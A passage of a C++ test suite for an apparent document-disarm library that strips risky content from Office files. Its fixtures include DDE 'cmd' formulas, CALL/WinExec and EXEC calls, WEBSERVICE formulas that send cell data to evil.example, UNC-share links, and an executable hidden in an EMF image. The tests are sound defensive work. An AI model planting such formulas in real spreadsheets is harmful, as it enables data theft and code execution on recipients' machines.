                       u32(0) + u32(0) + std::string(32, '\0');  // nBytes, nRecords fixed later
  ASSERT_EQ(header.size(), 88u);
  std::string comment_data = kExe + std::string((4 - kExe.size() % 4) % 4, '\0');
  std::string comment = u32(70) + u32(static_cast<uint32_t>(12 + comment_data.size())) +
                        u32(static_cast<uint32_t>(comment_data.size())) + comment_data;
  std::string eof = u32(14) + u32(20) + u32(0) + u32(16) + u32(20);
  std::string emf = header + comment + eof + kExe;
  Result<OoxmlDisarmed> r = DisarmOoxml(
      CraftedDocx("", Rel("rId5", "image", "media/image1.emf"),
                  "<Default Extension=\"emf\" ContentType=\"image/x-emf\"/>",
                  {{"word/media/image1.emf", emf}}),
      Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  std::string out = Unzip(r->bytes)["word/media/image1.emf"];
  EXPECT_EQ(out.size(), header.size() + eof.size());
  EXPECT_EQ(out.find("This program"), std::string::npos);
  EXPECT_TRUE(Has(r->findings, "metafile_records")) << Describe(r->findings);
  uint32_t n_bytes, n_records;
  std::memcpy(&n_bytes, out.data() + 48, 4);
  std::memcpy(&n_records, out.data() + 52, 4);
  EXPECT_EQ(n_bytes, out.size());
  EXPECT_EQ(n_records, 2u);
  Result<OoxmlDisarmed> again = DisarmOoxml(r->bytes, Limits());
  ASSERT_TRUE(again.ok());
  EXPECT_TRUE(again->findings.removed.empty()) << Describe(again->findings);
}

TEST(OoxmlAllowList, VmlAddressesMailMergeAndConnectionsGo) {
  std::string body =
      "<w:p><w:r><w:pict><v:shape><v:imagedata src=\"file://\\\\host\\share\\x.png\" o:title=\"\"/>"
      "<v:fill src=\"http://evil.example/x.png\" type=\"frame\"/></v:shape></w:pict></w:r></w:p>";
  Members extra = {{"word/settings.xml",
                    "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                    "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:connectString "
                    "w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\host\\share\\x.xlsx\"/>"
                    "</w:mailMerge><w:zoom w:percent=\"100\"/></w:settings>"}};
  Result<OoxmlDisarmed> r = DisarmOoxml(
      CraftedDocx(body, Rel("rId5", "settings", "settings.xml"),
                  "<Override PartName=\"/word/settings.xml\" ContentType=\"application/"
                  "vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
                  extra),
      Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  Members out = Unzip(r->bytes);
  EXPECT_TRUE(Has(r->findings, "outside_reference")) << Describe(r->findings);
  EXPECT_TRUE(Has(r->findings, "mail_merge")) << Describe(r->findings);
  EXPECT_EQ(out["word/document.xml"].find("src="), std::string::npos) << out["word/document.xml"];
  EXPECT_NE(out["word/document.xml"].find("v:imagedata"), std::string::npos);
  EXPECT_EQ(out["word/settings.xml"].find("mailMerge"), std::string::npos);
  EXPECT_NE(out["word/settings.xml"].find("w:zoom"), std::string::npos);
}

// xlsx with one sheet of the given cells, a workbook with `names`, and `parts`.
std::string CraftedXlsx(const std::string& cells, const std::string& names,
                        const std::string& rels = "", const std::string& types = "",
                        const Members& extra = {}) {
  Members m = Unzip(Fixture("ja-text.xlsx"));
  for (const auto& [k, v] : extra) m[k] = v;
  std::string& sheet = m["xl/worksheets/sheet1.xml"];
  sheet.replace(sheet.find("</sheetData>"), 0, "<row r=\"9\">" + cells + "</row>");
  std::string& wb = m["xl/workbook.xml"];
  if (!names.empty()) wb.replace(wb.find("</workbook>"), 0, "<definedNames>" + names + "</definedNames>");
  std::string& r = m["xl/_rels/workbook.xml.rels"];
  r.replace(r.find("</Relationships>"), 0, rels);
  std::string& t = m["[Content_Types].xml"];
  t.replace(t.find("</Types>"), 0, types);
  return Zip(m);
}

TEST(OoxmlAllowList, FormulasThatFetchOrRunKeepOnlyTheirValues) {
  struct FormulaCase {
    const char* formula;
    const char* what;  // "" = kept
  };
  const FormulaCase cases[] = {
      {"WEBSERVICE(\"http://evil.example/?\"&amp;A1)", "network_formula"},
      {"_xlfn.WEBSERVICE(\"http://evil.example/\")", "network_formula"},
      {"_xlfn.IMAGE(\"http://evil.example/x.png\")", "network_formula"},
      {"RTD(\"prog.id\",,\"x\")", "network_formula"},
      {"HYPERLINK(\"file://\\\\host\\share\\x.exe\",\"open\")", "network_formula"},
      {"CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "code_formula"},
      {"REGISTER(\"kernel32\",\"WinExec\")", "code_formula"},
      {"cmd|' /C calc'!A0", "dde_formula"},
      {"'cmd'|'/c calc'!A0", "dde_formula"},
      {"'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "external_formula"},
      {"[x.xlsx]Sheet1!A1", "external_formula"},
      {"[1]Sheet1!A1", "external_formula"},
      {"_xlfn.MAP(A1:A3,_xlfn._xleta.WEBSERVICE)", "network_formula"},
      {"webservice(\"http://x\")", "network_formula"},
      {"SUM(A1:A2)*2", ""},
      {"Table1[Col]+Table1[[#This Row],[Col]]", ""},
      {"IF(A1=\"cmd|x\",1,2)", ""},
      {"'予算 2026'!B2", ""},
  };
  std::string cells;
  int col = 0;
  for (const FormulaCase& c : cases) {
    std::string ref = std::string(1, static_cast<char>('A' + col++)) + "9";
    cells += "<c r=\"" + ref + "\"><f>" + c.formula + "</f><v>42</v></c>";
  }
  Result<OoxmlDisarmed> r = DisarmOoxml(CraftedXlsx(cells, ""), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  std::string sheet = Unzip(r->bytes)["xl/worksheets/sheet1.xml"];
  col = 0;
  for (const FormulaCase& c : cases) {
    SCOPED_TRACE(c.formula);
    std::string ref = std::string(1, static_cast<char>('A' + col++)) + "9";
    if (*c.what) {
      EXPECT_NE(sheet.find("<c r=\"" + ref + "\"><v>42</v></c>"), std::string::npos) << sheet;
      EXPECT_TRUE(Has(r->findings, c.what)) << Describe(r->findings);
    } else {
      EXPECT_NE(sheet.find("<c r=\"" + ref + "\"><f>"), std::string::npos) << sheet;
    }
  }
}

// Formulas outside cells: a conditional format and a data validation that fetch.
TEST(OoxmlAllowList, RulesWithFormulasThatFetchGo) {
  Members m = Unzip(CraftedXlsx("<c r=\"A9\"><v>1</v></c>", ""));
  std::string& sheet = m["xl/worksheets/sheet1.xml"];
  sheet.replace(sheet.find("</worksheet>"), 0,
                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">"
                "<formula>LEN(WEBSERVICE(\"http://evil.example/\"))&gt;0</formula></cfRule>"
                "<cfRule type=\"expression\" priority=\"2\"><formula>A1&gt;0</formula></cfRule>"
                "</conditionalFormatting><dataValidations count=\"1\"><dataValidation sqref=\"B1\">"
                "<formula1>CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</formula1>"
                "</dataValidation></dataValidations>");
  Result<OoxmlDisarmed> r = DisarmOoxml(Zip(m), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  std::string out = Unzip(r->bytes)["xl/worksheets/sheet1.xml"];
  EXPECT_EQ(out.find("WEBSERVICE"), std::string::npos) << out;
  EXPECT_EQ(out.find("CALL("), std::string::npos) << out;
  EXPECT_NE(out.find("A1&gt;0"), std::string::npos) << out;  // the harmless rule stays
  EXPECT_TRUE(Has(r->findings, "network_formula", "conditional format")) << Describe(r->findings);
  EXPECT_TRUE(Has(r->findings, "code_formula")) << Describe(r->findings);
}

TEST(OoxmlAllowList, DefinedNamesThatRunAndWorkbookConnectionsGo) {
  std::string names = "<definedName name=\"go\">EXEC(\"calc.exe\")</definedName>"
                      "<definedName name=\"feed\">WEBSERVICE(\"http://evil.example/\")</definedName>"
                      "<definedName name=\"total\">'予算'!$B$2</definedName>";
  std::string rels = Rel("rId9", "connections", "connections.xml");
  std::string types = "<Override PartName=\"/xl/connections.xml\" ContentType=\"application/"
                      "vnd.openxmlformats-officedocument.spreadsheetml.connections+xml\"/>";
  Members extra = {{"xl/connections.xml",
                    "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                    "<connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\"><webPr "
                    "url=\"http://evil.example/q\"/></connection></connections>"}};
  Result<OoxmlDisarmed> r = DisarmOoxml(CraftedXlsx("", names, rels, types, extra), Limits());
  ASSERT_TRUE(r.ok()) << r.status().message();
  Members out = Unzip(r->bytes);
  EXPECT_FALSE(out.contains("xl/connections.xml"));
  EXPECT_TRUE(Has(r->findings, "code_formula", "go")) << Describe(r->findings);
  EXPECT_TRUE(Has(r->findings, "network_formula", "feed")) << Describe(r->findings);
  EXPECT_EQ(out["xl/workbook.xml"].find("EXEC"), std::string::npos);
  EXPECT_NE(out["xl/workbook.xml"].find("name=\"total\""), std::string::npos);
  for (const auto& [name, bytes] : out) EXPECT_EQ(bytes.find("evil.example"), std::string::npos) << name;
}

// Every Word, Excel and PowerPoint file of the corpora: what the allow-list delivers shows the
// same text as what came in (the visible content the issue asks to keep), and disarming the
// output again removes nothing. Counts are printed for docs/PERFORMANCE.md and the note.
TEST(OoxmlAllowList, CorporaKeepTheirText) {
  InitImageLibrary();
  const std::string root = testing::CorporaDir();
  if (!std::filesystem::exists(root)) GTEST_SKIP() << "corpora absent, skipped: " << root;
  size_t seen = 0, disarmed = 0, refused = 0, same_text = 0;
  std::map<std::string, size_t> removed_kinds;
  for (const auto& e : std::filesystem::recursive_directory_iterator(root)) {
    std::string ext = e.path().extension().string();
    for (char& c : ext) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    if (!e.is_regular_file() || (ext != ".docx" && ext != ".xlsx" && ext != ".pptx" &&
                                 ext != ".docm" && ext != ".xlsm" && ext != ".pptm")) {
      continue;
    }
    ++seen;
    SCOPED_TRACE(e.path().string());
    std::string input = testing::ReadFile(e.path());
    Result<OoxmlDisarmed> r = DisarmOoxml(input, Limits());
    if (!r.ok()) {
      ++refused;  // not OOXML mugai can read (the pipeline blocks it): nothing delivered
      if (getenv("MUGAI_SHOW_REFUSED")) std::printf("refused %s: %s\n", e.path().c_str(), r.status().message().c_str());
      continue;
    }
    ++disarmed;
    for (const auto& [what, detail] : r->findings.removed) ++removed_kinds[what];
    Result<std::string> before = OoxmlText(input, Limits());
    Result<std::string> after = OoxmlText(r->bytes, Limits());
    ASSERT_TRUE(after.ok()) << after.status().message();
    if (before.ok() && *before == *after) {
      ++same_text;
    } else {
      ADD_FAILURE() << "visible text changed";
    }
    OoxmlLimits verify = Limits();
    verify.reencode_images = false;
    Result<OoxmlDisarmed> again = DisarmOoxml(r->bytes, verify);
    ASSERT_TRUE(again.ok()) << again.status().message();
    EXPECT_TRUE(again->findings.removed.empty()) << Describe(again->findings);
  }
  std::string kinds;
  for (const auto& [what, n] : removed_kinds) kinds += " " + what + "=" + std::to_string(n);
  std::printf("OOXML corpora: %zu files, %zu disarmed, %zu refused, %zu with the same text; "
              "removed:%s\n", seen, disarmed, refused, same_text, kinds.c_str());
}

}  // namespace
}  // namespace mugai
